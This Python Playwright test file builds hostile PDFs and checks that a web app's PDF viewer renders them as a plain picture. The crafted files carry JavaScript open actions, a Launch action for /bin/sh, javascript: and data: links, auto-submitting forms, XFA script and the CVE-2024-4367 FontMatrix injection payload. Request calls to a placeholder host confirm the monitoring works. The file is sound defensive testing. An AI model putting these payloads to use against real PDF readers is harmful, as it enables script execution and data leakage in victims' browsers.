"""A hostile PDF is a picture and nothing else: no dialog, no request elsewhere, no script, no form."""

import io

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from tests.browser.pdf_version import version_of
from tests.factories import UserFactory

ELSEWHERE = "https://elders.invalid/"
SHOUT = "app.alert('gezien'); alert('gezien');"


def script(code=SHOUT):
    return Dictionary(S=Name.JavaScript, JS=String(code))


def link(action):
    return Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 300, 300]), Border=[0, 0, 5], A=action
    )


def javascript_at_opening(pdf, page):
    pdf.Root.OpenAction = script()
    pdf.Root.AA = Dictionary(WC=script(), DP=script())
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("een"), pdf.make_indirect(script())]))
    )
    page.AA = Dictionary(O=script(), C=script())


def launch(pdf, page):
    launches = Dictionary(S=Name.Launch, F=String("/bin/sh"), NewWindow=True)
    pdf.Root.OpenAction = launches
    page.Annots = Array([pdf.make_indirect(link(launches))])


def links(pdf, page):
    page.Annots = Array(
        pdf.make_indirect(link(Dictionary(S=Name.URI, URI=String(address))))
        for address in (
            ELSEWHERE,
            "javascript:alert('gezien')",
            "data:text/html,<script>1</script>",
        )
    )


def sends_a_form(pdf, page):
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("veld"),
            V=String("waarde"),
            Rect=Array([0, 0, 300, 300]),
            AA=Dictionary(K=script(), F=script(), C=script()),
            A=Dictionary(S=Name.SubmitForm, F=String(ELSEWHERE)),
        )
    )
    page.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), NeedAppearances=True)
    pdf.Root.OpenAction = Dictionary(S=Name.SubmitForm, F=String(ELSEWHERE))


def xfa(pdf, page):
    form = f"<xdp><template><script>{SHOUT}</script></template><a href='{ELSEWHERE}'/></xdp>"
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([]), XFA=Array([String("template"), pdf.make_stream(form.encode())])
    )


def font_matrix(pdf, page):
    """The payload of CVE-2024-4367: code where a number belongs."""
    matrix = Array([1, 0, 0, 1, 0, String("1);alert('gezien');//")])
    page.Resources.Font.F1.FontMatrix = matrix
    glyph = pdf.make_stream(b"1000 0 0 0 750 750 d1 0 0 750 750 re f")
    page.Resources.Font.F2 = pdf.make_indirect(
        Dictionary(
            Type=Name.Font,
            Subtype=Name.Type3,
            FontBBox=Array([0, 0, 750, 750]),
            FontMatrix=matrix,
            CharProcs=Dictionary(a=glyph),
            Encoding=Dictionary(Type=Name.Encoding, Differences=Array([97, Name.a])),
            FirstChar=97,
            LastChar=97,
            Widths=Array([1000]),
        )
    )
    page.Contents = pdf.make_stream(
        b"BT /F1 12 Tf 20 250 Td (Gewone tekst) Tj /F2 12 Tf 0 -40 Td (a) Tj ET"
    )


def elsewhere_as_content(pdf, page):
    """A picture whose data would have to come from another machine."""
    stream = pdf.make_stream(b"")
    stream.update(
        Dictionary(Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1, BitsPerComponent=8)
    )
    stream.ColorSpace = Name.DeviceGray
    stream.F = Dictionary(Type=Name.Filespec, FS=Name.URL, F=String(ELSEWHERE))
    page.Resources.XObject = Dictionary(X=stream)
    page.Contents = pdf.make_stream(
        b"BT /F1 12 Tf 20 250 Td (Gewone tekst) Tj ET q 9 0 0 9 9 9 cm /X Do Q"
    )


HOSTILE = [
    javascript_at_opening,
    launch,
    links,
    sends_a_form,
    xfa,
    font_matrix,
    elsewhere_as_content,
]


def hostile_pdf(path, spoil):
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(300, 300)).obj
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.Resources = Dictionary(Font=Dictionary(F1=pdf.make_indirect(font)))
    page.Contents = pdf.make_stream(b"BT /F1 12 Tf 20 250 Td (Gewone tekst) Tj ET")
    spoil(pdf, page)
    pdf.save(path)
    return path


@pytest.fixture
def harm(page, live_server, complaints):
    """Everything that a PDF should not bring about; `complaints` goes on being filled."""
    found = []

    def refuse(dialog):
        found.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def note(request):
        if not request.url.startswith((live_server.url, "blob:", "data:")):
            found.append(f"request: {request.url}")

    page.on("dialog", refuse)
    page.on("popup", lambda popup: found.append(f"popup: {popup.url}"))
    page.on("download", lambda download: found.append(f"download: {download.url}"))
    page.context.on("request", note)
    return lambda: found + complaints


@pytest.fixture
def open_file(page, live_server, enter, reference):
    def open_file(path):
        version = version_of(path)
        enter(UserFactory(role="Adviseur"))
        page.goto(f"{live_server.url}{version.get_absolute_url()}")
        page.get_by_role("button", name="Bladzijden").click()
        page.locator(".pv-sheet.drawn .pv-text > span").first.wait_for()
        page.wait_for_load_state("networkidle")

    return open_file


@pytest.mark.parametrize("spoil", HOSTILE)
def test_a_hostile_pdf_does_nothing(page, open_file, harm, tmp_path, spoil):
    open_file(hostile_pdf(tmp_path / "a.pdf", spoil))
    address = page.url

    paper = page.locator(".pv-sheet")
    for x, y in [(0.5, 0.5), (0.2, 0.8), (0.9, 0.1)]:
        box = paper.bounding_box()
        page.mouse.click(box["x"] + x * box["width"], box["y"] + y * box["height"])
    page.keyboard.type("x")
    page.wait_for_timeout(300)

    assert paper.locator("a, input, iframe, object, embed, script, style").count() == 0
    assert page.url == address
    assert harm() == []


def picture_in_jpeg_2000(pdf, page):
    written = io.BytesIO()
    Image.new("L", (64, 64), 0).save(written, "JPEG2000")
    stream = pdf.make_stream(written.getvalue())
    stream.update(Dictionary(Type=Name.XObject, Subtype=Name.Image, Width=64, Height=64))
    stream.Filter = Name.JPXDecode
    page.Resources.XObject = Dictionary(X=stream)
    page.Contents = pdf.make_stream(
        b"BT /F1 12 Tf 20 250 Td (Gewone tekst) Tj ET q 200 0 0 200 9 9 cm /X Do Q"
    )


def test_a_picture_that_asks_for_wasm_is_drawn_without_it(page, open_file, harm, tmp_path):
    open_file(hostile_pdf(tmp_path / "a.pdf", picture_in_jpeg_2000))

    assert dark_dots(page) > 10_000
    assert harm() == []


def test_the_paper_is_really_drawn(page, open_file, tmp_path):
    open_file(hostile_pdf(tmp_path / "a.pdf", font_matrix))

    assert dark_dots(page) > 50


def dark_dots(page):
    return page.locator(".pv-sheet canvas").evaluate(
        """(canvas) => canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height)
            .data.filter((value, at) => at % 4 === 0 && value < 100).length"""
    )


@pytest.mark.parametrize(
    ("deed", "trace"),
    [
        ("alert('gezien')", "dialog: gezien"),
        (f"new Image().src = '{ELSEWHERE}'", "Content Security Policy"),
        (f"fetch('{ELSEWHERE}').catch(() => {{}})", "Content Security Policy"),
        (f"window.open('{ELSEWHERE}')", "popup"),
        (f"location.href = '{ELSEWHERE}'", "request: " + ELSEWHERE),
        (
            "document.body.append(Object.assign(document.createElement('script'), {text: '1'}))",
            "Content Security Policy",
        ),
        (
            "document.body.append(Object.assign(document.createElement('style'), "
            "{textContent: 'p {color: red}'}))",
            "Content Security Policy",
        ),
        ("new Worker(URL.createObjectURL(new Blob(['1'])))", "Content Security Policy"),
    ],
)
def test_the_watch_would_notice(page, open_file, harm, tmp_path, deed, trace):
    open_file(hostile_pdf(tmp_path / "a.pdf", links))

    page.evaluate(f"setTimeout(() => {{ {deed} }})")
    page.wait_for_timeout(500)

    assert any(trace in one for one in harm())
